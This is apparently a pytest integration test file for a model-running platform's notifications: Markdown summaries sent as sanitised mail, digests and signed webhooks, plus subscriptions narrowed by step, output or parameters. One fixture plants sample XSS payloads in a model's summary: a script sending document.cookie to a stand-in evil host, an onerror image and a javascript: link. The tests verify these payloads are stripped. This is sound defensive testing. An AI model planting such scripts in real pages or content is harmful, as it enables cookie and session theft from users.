"""The model writes its own news, and subscriptions as fine as a team needs them: a model's
``notify.summary`` (Markdown) is the body of its mails (sanitised HTML and plain text), its
digest entry and part of its signed webhook payload; ``notify.changes`` and subscriptions to a
step, one output or a set of parameters decide who hears of what. The other side is real: an
SMTP server (aiosmtpd) and a webhook receiver verifying signatures."""

from __future__ import annotations

import datetime as dt
import json
from collections.abc import Iterator
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from modelrunner.clock import utcnow
from modelrunner.notify.digest import Digest
from modelrunner.platform import Platform
from modelrunner.store import notify_queries
from tests.identities import add_user, bearer
from tests.integration.runs_api import submit, wait_for_status, wait_until, write_model
from tests.integration.test_web_pages import PASSWORD, signed_in
from tests.notify_services import SmtpServer, WebhookReceiver, configure, email_settings

BASE_URL = "https://models.example.org"

LITERATURE = """\
title: Statements found by a query
command: [python, literature.py]
params:
  type: object
  properties:
    query: {type: string, default: covid}
    n: {type: integer, default: 3}
outputs: [{path: summary.md}, {path: results.csv}, {path: report.txt}]
notify:
  summary: summary.md
  changes: [results.csv]
"""

# The summary carries what an untrusted model might try: a script, an event handler, a remote
# image a mail client would fetch, a javascript: link.
LITERATURE_PY = '''\
import json, os, pathlib, time
params = json.loads(pathlib.Path(os.environ["MODELRUNNER_PARAMS"]).read_text())
out = pathlib.Path(os.environ["MODELRUNNER_OUTPUTS"])
extra = pathlib.Path(__file__).with_name("extra.txt")
rows = [f"{params['query']},{i}" for i in range(params["n"])]
out.joinpath("results.csv").write_text("\\n".join(rows) + (extra.read_text() if extra.exists() else ""))
out.joinpath("report.txt").write_text(f"computed at {time.time_ns()}\\n")
out.joinpath("summary.md").write_text(f"""# {params['n']} new statements for *{params['query']}*

The query **{params['query']}** found [{params['n']} statements](https://lit.example.org/q).

- first finding
- second finding

<script>document.location = "https://evil.example/steal?" + document.cookie</script>

<img src="https://tracker.example/open.gif" onerror="alert(1)">

![chart](https://tracker.example/chart.png) [click](javascript:alert(2))
""")
'''

QUERIES = """\
title: Answers queries over new statements
params:
  type: object
  properties:
    query: {type: string, default: covid}
steps:
  fetch:
    command: [python, queries.py, fetch]
    outputs: [{path: statements.txt}]
  answer_queries:
    command: [python, queries.py, answer]
    needs: [fetch]
    outputs: [{path: summary.md}]
notify:
  summary: answer_queries/summary.md
"""

QUERIES_PY = """\
import json, os, pathlib, sys
params = json.loads(pathlib.Path(os.environ["MODELRUNNER_PARAMS"]).read_text())
out = pathlib.Path(os.environ["MODELRUNNER_OUTPUTS"])
if sys.argv[1] == "fetch":
    out.joinpath("statements.txt").write_text("s1\\ns2\\n")
else:
    out.joinpath("summary.md").write_text(f"## Answers for {params['query']}\\n\\n2 new answers.\\n")
"""


@pytest.fixture
def smtp() -> Iterator[SmtpServer]:
    server = SmtpServer()
    server.start()
    yield server
    server.stop()


@pytest.fixture
def receiver() -> Iterator[WebhookReceiver]:
    hooks = WebhookReceiver()
    hooks.start()
    yield hooks
    hooks.stop()


@pytest.fixture
def newsroom(workspace: Path, smtp: SmtpServer) -> Path:
    """The workspace with the literature model and the queries pipeline, mailing the test SMTP
    server, with a yearly digest (its tick is driven by the test)."""
    write_model(workspace, "literature", LITERATURE, {"literature.py": LITERATURE_PY})
    write_model(workspace, "queries", QUERIES, {"queries.py": QUERIES_PY})
    configure(
        workspace,
        {
            "base_url": BASE_URL,
            "email": email_settings(smtp),
            "webhooks": {"attempts": 3, "backoff_seconds": 0.2, "timeout_seconds": 5},
            "digest": {"cron": "0 6 1 1 *", "timezone": "UTC"},
        },
        groups={"analysts": ["literature", "queries"]},
    )
    return workspace


def person(platform: Platform, name: str) -> dict[str, str]:
    return bearer(add_user(platform.database, name, groups=("analysts",), email=f"{name}@example.org"))


def subscribe(client: TestClient, headers: dict[str, str], **body: Any) -> dict[str, Any]:
    response = client.post("/api/v1/subscriptions", json=body, headers=headers)
    assert response.status_code == 201, response.text
    created: dict[str, Any] = response.json()
    return created


def deliveries(client: TestClient, headers: dict[str, str] | None = None, **query: Any) -> list[dict[str, Any]]:
    response = client.get("/api/v1/deliveries", params=query, headers=headers)
    assert response.status_code == 200, response.text
    found: list[dict[str, Any]] = response.json()
    return found


def settled(client: TestClient) -> bool:
    return not deliveries(client, status=["pending", "sending"])


def run_to_end(client: TestClient, model: str, params: dict[str, Any] | None = None, **body: Any) -> dict[str, Any]:
    run = submit(client, model, params, **body)
    return wait_for_status(client, run["id"], "succeeded", timeout=60)


def bodies(mail: EmailMessage) -> tuple[str, str]:
    """The mail's plain-text and HTML bodies (lines ended by \n, as SMTP's \r\n are read back)."""
    text, html = mail.get_body(("plain",)), mail.get_body(("html",))
    assert text is not None and html is not None, "the mail has no text or no HTML body"
    return tuple(str(part.get_content()).replace("\r\n", "\n") for part in (text, html))  # type: ignore[attr-defined,return-value]


def test_a_models_summary_is_the_body_of_its_mails_as_safe_html_and_as_text(
    newsroom: Path, client: TestClient, platform: Platform, smtp: SmtpServer
) -> None:
    alice = person(platform, "alice")
    subscribe(client, alice, model="literature", channel="email")
    run = run_to_end(client, "literature", {"query": "covid", "n": 3})

    [mail] = wait_until(lambda: smtp.mailbox.to("alice@example.org"), 20, "alice's mail")
    text, html = bodies(mail)
    assert mail["Subject"] == f"[modelrunner] run {run['id']} of literature succeeded (results changed)"
    # The model's own words come first, rendered.
    assert "<h1>3 new statements for <em>covid</em></h1>" in html
    assert '<a href="https://lit.example.org/q" rel="noopener noreferrer nofollow">3 statements</a>' in html
    assert "<li>first finding</li>" in html
    assert text.startswith(
        "3 new statements for covid\n\nThe query covid found 3 statements (https://lit.example.org/q)."
    )
    assert "- first finding\n- second finding" in text
    # What an untrusted model slipped in does not survive, in either body.
    for body in (html, text):
        assert "<script" not in body and "document.cookie" not in body and "evil.example" not in body
        assert "tracker.example" not in body and "onerror" not in body
    assert "<img" not in html and "src=" not in html and 'href="javascript' not in html
    assert "<p>[chart] [click](javascript:alert(2))</p>" in html  # an image is its alt text; that link no link
    # The run's facts follow.
    assert f"{BASE_URL}/api/v1/runs/{run['id']}" in html and f"{BASE_URL}/api/v1/runs/{run['id']}" in text


def test_only_the_outputs_named_in_notify_changes_decide_whether_results_changed(
    newsroom: Path, client: TestClient, platform: Platform, smtp: SmtpServer
) -> None:
    alice = person(platform, "alice")
    subscribe(client, alice, model="literature", channel="email", on="results_changed")
    first = run_to_end(client, "literature", {"query": "covid"})
    wait_until(lambda: smtp.mailbox.to("alice@example.org"), 20, "the first result's mail")
    # Computed again: report.txt holds a new timestamp, results.csv the same bytes: no news.
    again = run_to_end(client, "literature", {"query": "covid"}, cache="refresh")
    (newsroom / "literature" / "extra.txt").write_text("\ncovid,new")  # now results.csv changes
    changed = run_to_end(client, "literature", {"query": "covid"})

    wait_until(lambda: len(smtp.mailbox.to("alice@example.org")) == 2, 20, "the changed result's mail")
    wait_until(lambda: settled(client), 20, "every delivery sent")
    assert not again["cache_hit"]
    assert [d["run_id"] for d in deliveries(client, alice)] == [changed["id"], first["id"]]


def test_a_step_subscription_hears_of_that_step_only(
    newsroom: Path, client: TestClient, platform: Platform, smtp: SmtpServer
) -> None:
    alice, bob = person(platform, "alice"), person(platform, "bob")
    step = subscribe(client, alice, model="queries", channel="email", step="answer_queries")
    assert step["step"] == "answer_queries" and step["on"] == "all"
    subscribe(client, bob, model="queries", channel="email")  # the whole pipeline
    pipeline = run_to_end(client, "queries", {"query": "covid"})

    wait_until(lambda: smtp.mailbox.to("alice@example.org") and smtp.mailbox.to("bob@example.org"), 30, "mails")
    wait_until(lambda: settled(client), 20, "every delivery sent")
    [to_alice] = smtp.mailbox.to("alice@example.org")
    [heard] = deliveries(client, alice)
    step_run = client.get(f"/api/v1/runs/{heard['run_id']}").json()
    assert step_run["step"] == "answer_queries" and step_run["parent_id"] == pipeline["id"]
    assert to_alice["Subject"] == (
        f"[modelrunner] run {step_run['id']} of queries step answer_queries succeeded (results changed)"
    )
    # The step's run finds the summary the model names in its pipeline folder.
    text, html = bodies(to_alice)
    assert "<h2>Answers for covid</h2>" in html and text.startswith("Answers for covid\n\n2 new answers.")
    [to_bob] = smtp.mailbox.to("bob@example.org")
    assert to_bob["Subject"] == f"[modelrunner] run {pipeline['id']} of queries succeeded (results changed)"
    assert "Answers for covid" in bodies(to_bob)[0]


def test_an_output_subscription_hears_only_when_that_outputs_bytes_change_and_webhooks_carry_the_summary(
    newsroom: Path, client: TestClient, platform: Platform, receiver: WebhookReceiver
) -> None:
    alice = person(platform, "alice")
    created = subscribe(client, alice, model="literature", channel="webhook", url=receiver.url, output="results.csv")
    receiver.secret = created["secret"]
    assert created["output"] == "results.csv" and created["on"] == "results_changed"
    first = run_to_end(client, "literature", {"query": "covid"})
    wait_until(lambda: receiver.requests(), 20, "the first result's webhook")
    # report.txt and summary.md are written anew, results.csv is the same: nothing is sent.
    run_to_end(client, "literature", {"query": "covid"}, cache="refresh")
    (newsroom / "literature" / "extra.txt").write_text("\ncovid,new")
    changed = run_to_end(client, "literature", {"query": "covid"})

    wait_until(lambda: len(receiver.requests()) == 2, 20, "the changed output's webhook")
    wait_until(lambda: settled(client), 20, "every delivery sent")
    assert [r.body["run_id"] for r in receiver.requests()] == [first["id"], changed["id"]]
    request = receiver.requests()[1]
    assert request.verified and request.answered == 200  # signed as every webhook is
    summary = request.body["summary"]
    assert summary["path"] == "summary.md" and summary["truncated"] is False
    assert summary["markdown"].startswith("# 3 new statements for *covid*")  # the model's Markdown, as written


def test_a_param_subscription_hears_only_of_runs_with_those_values(
    newsroom: Path, client: TestClient, platform: Platform, smtp: SmtpServer
) -> None:
    alice = person(platform, "alice")
    mine = subscribe(client, alice, model="literature", channel="email", params={"query": "covid", "n": 2.0})
    assert mine["params"] == {"query": "covid", "n": 2.0}
    flu = run_to_end(client, "literature", {"query": "flu", "n": 2})
    other = run_to_end(client, "literature", {"query": "covid", "n": 3})
    covid = run_to_end(client, "literature", {"query": "covid", "n": 2})  # n=2 is 2.0

    wait_until(lambda: smtp.mailbox.to("alice@example.org"), 20, "the mail of my query")
    wait_until(lambda: settled(client), 20, "every delivery sent")
    assert [d["run_id"] for d in deliveries(client, alice)] == [covid["id"]]
    assert {flu["id"], other["id"]}.isdisjoint({d["run_id"] for d in deliveries(client)})


def test_the_digest_groups_new_runs_per_subscription_with_each_runs_summary(
    newsroom: Path, client: TestClient, platform: Platform, smtp: SmtpServer
) -> None:
    alice = person(platform, "alice")
    covid = subscribe(client, alice, model="literature", channel="digest", params={"query": "covid"})
    answers = subscribe(client, alice, model="queries", channel="digest", step="answer_queries")
    runs = [
        run_to_end(client, "literature", {"query": "covid", "n": 1}),
        run_to_end(client, "queries", {"query": "measles"}),
        run_to_end(client, "literature", {"query": "flu", "n": 7}),  # not alice's query
        run_to_end(client, "literature", {"query": "covid", "n": 5}),
    ]
    wait_until(lambda: len(deliveries(client, alice, status="held")) == 3, 30, "three items held for the digest")
    assert smtp.mailbox.all() == []

    clock = [utcnow()]
    digest = Digest(platform.database, platform.workspace, clock=lambda: clock[0])
    next_tick = wait_until(digest.next_fire_at, 10, "the digest's first tick computed")
    clock[0] = next_tick + dt.timedelta(minutes=1)
    assert digest.tick() == 1

    [mail] = wait_until(lambda: smtp.mailbox.to("alice@example.org"), 20, "alice's digest")
    text, html = bodies(mail)
    assert mail["Subject"] == "[modelrunner] digest: 3 runs ended"
    heading_covid = f"Subscription {covid['id']} (literature, query=covid: every run that ends):"
    heading_answers = f"Subscription {answers['id']} (queries, step answer_queries: every run that ends):"
    first, fourth = (f"run {runs[i]['id']} of literature succeeded" for i in (0, 3))
    # Each subscription's runs under its heading, oldest first, each followed by its own summary.
    order = [heading_covid, first, "1 new statements for covid", fourth, "5 new statements for covid"]
    order += [heading_answers, "of queries step answer_queries succeeded", "Answers for measles"]
    positions = [text.index(part) for part in order]
    assert positions == sorted(positions), text
    assert "flu" not in text
    assert "<h1>5 new statements for <em>covid</em></h1>" in html and "<h2>Answers for measles</h2>" in html
    assert "<script" not in html and "tracker.example" not in html and "evil.example" not in text


def test_narrowed_subscriptions_are_checked_and_named_when_wrong(
    newsroom: Path, client: TestClient, platform: Platform
) -> None:
    alice = person(platform, "alice")

    def refused(**body: Any) -> str:
        response = client.post("/api/v1/subscriptions", json={"channel": "email", **body}, headers=alice)
        assert response.status_code == 422, response.text
        return str(response.json())

    assert "has no step 'answer'" in refused(model="queries", step="answer")
    assert "its steps: fetch, answer_queries" in refused(model="queries", step="answer")
    assert "it is not a pipeline" in refused(model="literature", step="fetch")
    assert "has no parameter 'topic'" in refused(model="literature", params={"topic": "covid"})
    assert "not on failures" in refused(model="literature", output="results.csv", on="failures")
    assert "relative path" in refused(model="literature", output="../secrets.txt")
    run = submit(client, "literature", {"query": "slow"})
    assert "narrow a model subscription" in refused(run_id=run["id"], step="fetch")
    assert client.get("/api/v1/subscriptions", headers=alice).json() == []
    # The same narrowed subscription twice is a conflict; another narrowing is another subscription.
    subscribe(client, alice, model="literature", channel="email", params={"query": "covid"})
    again = client.post(
        "/api/v1/subscriptions",
        json={"model": "literature", "channel": "email", "params": {"query": "covid"}},
        headers=alice,
    )
    assert again.status_code == 409, again.text
    subscribe(client, alice, model="literature", channel="email", params={"query": "flu"})
    listed = client.get("/api/v1/subscriptions", headers=alice).json()
    assert [json.dumps(s["params"]) for s in listed] == ['{"query": "covid"}', '{"query": "flu"}']


def test_the_run_page_shows_the_models_summary_and_the_subscriptions_page_how_each_is_narrowed(
    newsroom: Path, client: TestClient, platform: Platform
) -> None:
    alice = bearer(add_user(platform.database, "alice", groups=("analysts",), email="a@example.org", password=PASSWORD))
    subscribe(client, alice, model="queries", channel="email", step="answer_queries")
    subscribe(client, alice, model="literature", channel="email", output="results.csv", params={"query": "covid"})
    run = run_to_end(client, "literature", {"query": "covid", "n": 4})
    page = signed_in(TestClient(client.app, follow_redirects=False), "alice")

    shown = page.get(f"/runs/{run['id']}").text
    summary = shown[shown.index('<section id="run-summary"') :]
    summary = summary[: summary.index("</section>")]
    assert "<h1>4 new statements for <em>covid</em></h1>" in summary and "<li>second finding</li>" in summary
    assert "<script" not in summary and "tracker.example" not in summary and "document.cookie" not in shown
    pipeline = run_to_end(client, "queries", {"query": "measles"})  # shows its step's answer_queries/summary.md
    assert "<h2>Answers for measles</h2>" in page.get(f"/runs/{pipeline['id']}").text

    listed = page.get("/subscriptions")
    assert listed.status_code == 200
    rows = listed.text[listed.text.index('<table id="subscriptions"') :]
    assert '<td class="subscription-step">answer_queries</td>' in rows
    assert '<td class="subscription-output">results.csv</td>' in rows
    assert "<code>query=&#34;covid&#34;</code>" in rows or '<code>query="covid"</code>' in rows
    assert "results changed" in rows and 'href="/subscriptions"' in listed.text
    assert TestClient(client.app, follow_redirects=False).get("/subscriptions").status_code in (303, 401)


def test_an_item_held_for_a_subscription_removed_meanwhile_is_cancelled_not_digested(
    newsroom: Path, client: TestClient, platform: Platform, smtp: SmtpServer
) -> None:
    alice = person(platform, "alice")
    mine = subscribe(client, alice, model="literature", channel="digest")
    run_to_end(client, "literature", {"query": "covid"})
    [held] = wait_until(lambda: deliveries(client, alice, status="held"), 20, "the item held for the digest")
    # The outbox composes deliveries before it writes them: a removal can fall in between and
    # leave an item held that the removal did not cancel. As if it had:
    with platform.database.write() as session:
        assert notify_queries.remove_subscription_if_active(session, mine["id"], utcnow())

    clock = [utcnow()]
    digest = Digest(platform.database, platform.workspace, clock=lambda: clock[0])
    clock[0] = wait_until(digest.next_fire_at, 10, "the digest's first tick computed") + dt.timedelta(minutes=1)
    assert digest.tick() == 0
    assert [d["status"] for d in deliveries(client, alice)] == ["cancelled"] and smtp.mailbox.all() == []
    assert deliveries(client, alice)[0]["id"] == held["id"]
